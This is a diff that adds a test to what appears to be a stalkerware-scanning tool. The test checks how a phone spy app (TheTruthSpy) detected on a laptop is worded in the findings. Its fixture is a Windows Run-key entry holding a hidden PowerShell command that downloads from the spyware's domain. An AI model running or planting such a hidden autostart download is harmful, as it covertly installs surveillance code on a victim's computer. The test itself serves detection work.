@@ -199,3 +199,28 @@ def test_a_scan_imports_only_its_own_platforms_sources(tmp_path):
     assert "device_checkup.checks.sources.linux" in loaded
     assert not {"device_checkup.checks.sources.windows", "device_checkup.checks.sources.macos",
                 "device_checkup.checks.sources.registry"} & set(loaded), loaded
+
+
+def test_a_phone_apps_family_found_on_a_laptop_is_said_as_a_link_to_the_app_not_the_app(machine):
+    """Echap's TheTruthSpy is known by its phone app's ids and its servers; on a laptop only a link
+    to its servers can show (here a real shipped indicator, its domain, in a start-up command). It
+    must not be called a program watching this computer. SpyAgent, a laptop product, keeps its words."""
+    from device_checkup.checks.base import phone_product
+    from device_checkup.signatures.loader import shared_set
+    sigset = shared_set()
+    families = {f.id: f for f in sigset.families}
+    assert phone_product(families["echap.thetruthspy"]) and not phone_product(families["spyagent"])
+    # A family Echap lists with no phone app id (SentryPC is sold for computers) keeps the tier's words.
+    assert not phone_product(families["echap.sentrypc"])
+    entry = AutostartEntry(kind="run-key", name="updater", location=r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run",
+                           command="powershell.exe -w hidden -c iwr https://thetruthspy.com/u")
+    result = run_scan(signatures=sigset, machine=machine,
+                      sources=[ListSource("autostart", [entry]), ListSource("processes", [SPY_PROC])])
+    by_family = {f.family: f for f in result.findings}
+    spy = by_family["echap.thetruthspy"]
+    assert spy.tier == "stalkerware"
+    assert spy.title == "TheTruthSpy: a link to an app sold to watch another person's phone"
+    assert "runs on phones" in spy.why and "this computer" not in spy.why
+    assert "Android phone or an iPhone backup" in spy.do
+    assert spy.what.startswith("A phone app sold to secretly watch another person")
+    assert by_family["spyagent"].title == "SpyAgent, a program sold to watch another person's computer"
